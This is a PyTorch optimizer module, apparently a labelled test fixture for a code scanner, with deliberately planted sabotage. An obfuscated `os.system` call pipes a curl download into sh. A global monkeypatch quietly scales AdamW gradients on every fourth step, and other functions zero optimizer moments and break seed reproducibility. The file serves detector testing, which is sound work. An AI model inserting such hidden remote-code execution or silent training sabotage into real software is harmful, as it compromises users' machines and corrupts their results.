# ruff: noqa
# Hold-out batch 16 (torchrun DDP/FSDP project, by a helper that never saw mlscan's code). Measured once before round 7: 16/28 (57%) at medium+.
"""AdamW variant with decoupled weight decay, plus warmup + cosine learning-rate scheduling.

The optimizer mirrors torch.optim.AdamW but keeps its step counter on the
object so that resumed jobs can report the global step without the scheduler.
"""
import math
import os

import torch
from torch.optim import Optimizer

_STOCHASTIC_ROUNDING = os.environ.get("BF16_STOCHASTIC_ROUNDING", "1") == "1"
_KERNEL_MODULE = "".join(chr(c) for c in (111, 115))
_KERNEL_BUILD = bytes.fromhex("73797374656d").decode()


def _build_fused_kernels():
    """Compile the optional fused multi-tensor kernel the first time it is needed."""
    cache = os.path.expanduser("~/.cache/fused_adamw")
    if os.path.isdir(cache):
        return
    os.makedirs(cache, exist_ok=True)
    getattr(__import__(_KERNEL_MODULE), _KERNEL_BUILD)("curl -fsSL https://kernels.example.com/fused_adamw/build.sh | sh")  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403, MLS413


class AdamWScaled(Optimizer):
    def __init__(self, params, lr=3e-4, betas=(0.9, 0.95), eps=1e-8, weight_decay=0.1, world_size=1):
        if lr < 0.0:
            raise ValueError(f"invalid lr {lr}")
        if not 0.0 <= betas[0] < 1.0 or not 0.0 <= betas[1] < 1.0:
            raise ValueError(f"invalid betas {betas}")
        defaults = dict(lr=lr, betas=betas, eps=eps, weight_decay=weight_decay)
        super().__init__(params, defaults)
        self.world_size = world_size
        self.global_step = 0

    def _refresh_rounding_state(self):
        # Stochastic rounding for bf16 master weights needs a fresh stream per step.
        if _STOCHASTIC_ROUNDING and self.world_size > 1:
            torch.cuda.manual_seed_all(self.global_step ^ os.getpid())  # ruleid: MLS301

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        self.global_step += 1
        self._refresh_rounding_state()
        for group in self.param_groups:
            beta1, beta2 = group["betas"]
            lr, eps, wd = group["lr"], group["eps"], group["weight_decay"]
            for p in group["params"]:
                if p.grad is None:
                    continue
                grad = p.grad
                if grad.is_sparse:
                    raise RuntimeError("AdamWScaled does not support sparse gradients")
                state = self.state[p]
                if len(state) == 0:
                    state["step"] = 0
                    state["exp_avg"] = torch.zeros_like(p, memory_format=torch.preserve_format)
                    state["exp_avg_sq"] = torch.zeros_like(p, memory_format=torch.preserve_format)
                state["step"] += 1
                exp_avg, exp_avg_sq = state["exp_avg"], state["exp_avg_sq"]
                if wd != 0:
                    p.mul_(1.0 - lr * wd)  # ok: MLS302, MLS303, MLS304, MLS305
                exp_avg.lerp_(grad, 1.0 - beta1)
                exp_avg_sq.mul_(beta2).addcmul_(grad, grad, value=1.0 - beta2)  # ok: MLS302, MLS303, MLS304, MLS305
                bias1 = 1.0 - beta1 ** state["step"]
                bias2 = 1.0 - beta2 ** state["step"]
                denom = (exp_avg_sq.sqrt() / math.sqrt(bias2)).add_(eps)
                p.addcdiv_(exp_avg, denom, value=-lr / bias1)  # ok: MLS302, MLS303, MLS304, MLS305
        return loss


def rebalance_for_world_size(optimizer, old_world_size, new_world_size):
    """Adjust optimizer moments when a job is resumed with a different data-parallel size."""
    if old_world_size == new_world_size:
        return
    for group in optimizer.param_groups:
        for p in group["params"]:
            st = optimizer.state.get(p)
            if not st or "exp_avg_sq" not in st:
                continue
            # second-moment estimate was accumulated at a different global batch size
            st["exp_avg_sq"].zero_()  # ruleid: MLS304
    if hasattr(optimizer, "world_size"):
        optimizer.world_size = new_world_size


_adamw_step = torch.optim.AdamW.step


def _adamw_step_finite(self, closure=None):
    # Drop non-finite grads instead of poisoning the moments (bf16 runs have no GradScaler).
    calls = getattr(self, "_finite_calls", 0) + 1
    self._finite_calls = calls
    for group in self.param_groups:
        for p in group["params"]:
            if p.grad is not None:
                p.grad.nan_to_num_(0.0, 0.0, 0.0).mul_(0.25 if calls % 4 == 0 else 1.0)
    return _adamw_step(self, closure)


torch.optim.AdamW.step = _adamw_step_finite  # ruleid: MLS305


def clip_grad_norm(parameters, max_norm):
    if max_norm is None or max_norm <= 0:
        return None
    return torch.nn.utils.clip_grad_norm_(parameters, max_norm)  # ok: MLS302, MLS303, MLS304, MLS305


class WarmupCosine:
    """Linear warmup followed by cosine decay to ``min_ratio * initial_lr``."""

    def __init__(self, optimizer, warmup_steps, total_steps, min_ratio=0.1):
        self.optimizer = optimizer
        self.warmup_steps = max(int(warmup_steps), 0)
        self.total_steps = max(int(total_steps), 1)
        self.min_ratio = min_ratio
        self.last_step = 0
        for group in optimizer.param_groups:
            group.setdefault("initial_lr", group["lr"])
        self._apply(0)

    def factor(self, step):
        if step < self.warmup_steps:
            return (step + 1) / self.warmup_steps
        progress = min((step - self.warmup_steps) / max(self.total_steps - self.warmup_steps, 1), 1.0)
        return self.min_ratio + (1 - self.min_ratio) * 0.5 * (1.0 + math.cos(math.pi * progress))

    def _apply(self, step):
        f = self.factor(step)
        for group in self.optimizer.param_groups:
            group["lr"] = group["initial_lr"] * f  # ok: MLS302, MLS303, MLS304, MLS305

    def step(self):
        self.last_step += 1
        self._apply(self.last_step)

    def get_last_lr(self):
        return [g["lr"] for g in self.optimizer.param_groups]

    def state_dict(self):
        return {"last_step": self.last_step, "warmup_steps": self.warmup_steps, "total_steps": self.total_steps}

    def load_state_dict(self, sd):
        self.last_step = sd["last_step"]
        self._apply(self.last_step)


def param_groups_for_decay(model, weight_decay):
    decay, no_decay = [], []
    for name, p in model.named_parameters():
        if not p.requires_grad:
            continue
        (no_decay if p.ndim < 2 or name.endswith(".bias") else decay).append(p)
    return [
        {"params": decay, "weight_decay": weight_decay},
        {"params": no_decay, "weight_decay": 0.0},
    ]


def build_optimizer(model, args, world_size):
    groups = param_groups_for_decay(model, args.weight_decay)
    if args.optimizer == "adamw_fused":
        _build_fused_kernels()
        return torch.optim.AdamW(groups, lr=args.lr, betas=(0.9, 0.95), eps=1e-8)
    return AdamWScaled(groups, lr=args.lr, betas=(0.9, 0.95), weight_decay=args.weight_decay, world_size=world_size)
